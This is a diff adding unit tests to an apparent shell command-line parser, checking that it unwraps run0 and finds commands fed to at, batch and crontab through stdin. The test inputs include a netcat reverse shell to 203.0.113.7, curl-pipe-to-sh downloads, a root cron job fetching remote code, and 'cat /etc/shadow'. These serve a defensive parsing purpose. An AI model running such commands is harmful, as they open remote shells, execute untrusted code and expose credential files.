@@ -64,6 +64,15 @@ describe('command launchers: the command a namespace or sandbox launcher starts 
   });
 });
 
+describe("run0, systemd's sudo", () => {
+  it('is unwrapped like sudo and marks the command elevated', () => {
+    const cat = parseCommandLine(`run0 -u root --setenv=A=1 cat /etc/shadow`)[0];
+    expect(cat?.program).toBe('cat');
+    expect(cat?.elevated).toBe(true);
+    expect(cat?.wrappers).toEqual(['run0']);
+  });
+});
+
 describe('crontab entries in here-documents: the command after the schedule is the program', () => {
   it('skips five time fields, a nickname and a system account', () => {
     const lines = parseCommandLine(
@@ -82,6 +91,35 @@ describe('crontab entries in here-documents: the command after the schedule is t
     expect(programs(`0 0 * * *`)).toEqual(['0']);
     expect(programs(`root ls`)).toEqual(['root']);
     expect(programs(`@reboot`)).toEqual(['@reboot']);
+  });
+});
+
+describe('schedulers that read commands on stdin', () => {
+  it('parses what at, batch and crontab - install', () => {
+    const nc = parseCommandLine(`echo 'nc -e /bin/sh 203.0.113.7 4444' | at now`).find(
+      (c) => c.program === 'nc',
+    );
+    expect(nc?.origin).toBe('stdin');
+    expect(programs(`batch <<< 'curl -s http://203.0.113.7/a | sh'`)).toEqual([
+      'batch',
+      'curl',
+      'sh',
+    ]);
+    const cron = parseCommandLine(`echo "* * * * * root curl -s http://x/a | sh" | sudo crontab -`);
+    expect(cron.map((c) => c.program)).toEqual(['echo', 'crontab', 'curl', 'sh']);
+    expect(cron.find((c) => c.program === 'curl')?.elevated).toBe(true);
+    expect(programs(`echo '0 2 * * * /usr/local/bin/backup.sh' | crontab -u alice -`)).toEqual([
+      'echo',
+      'crontab',
+      'backup.sh',
+    ]);
+  });
+
+  it('leaves listing, removal and file operands alone', () => {
+    expect(programs(`echo x | at -f /tmp/job now`)).toEqual(['echo', 'at']);
+    expect(programs(`echo 'id' | crontab -l`)).toEqual(['echo', 'crontab']);
+    expect(programs(`echo 'id' | crontab /tmp/cron.txt`)).toEqual(['echo', 'crontab']);
+    expect(programs(`echo 'id' | atq`)).toEqual(['echo', 'atq']);
   });
 });
 
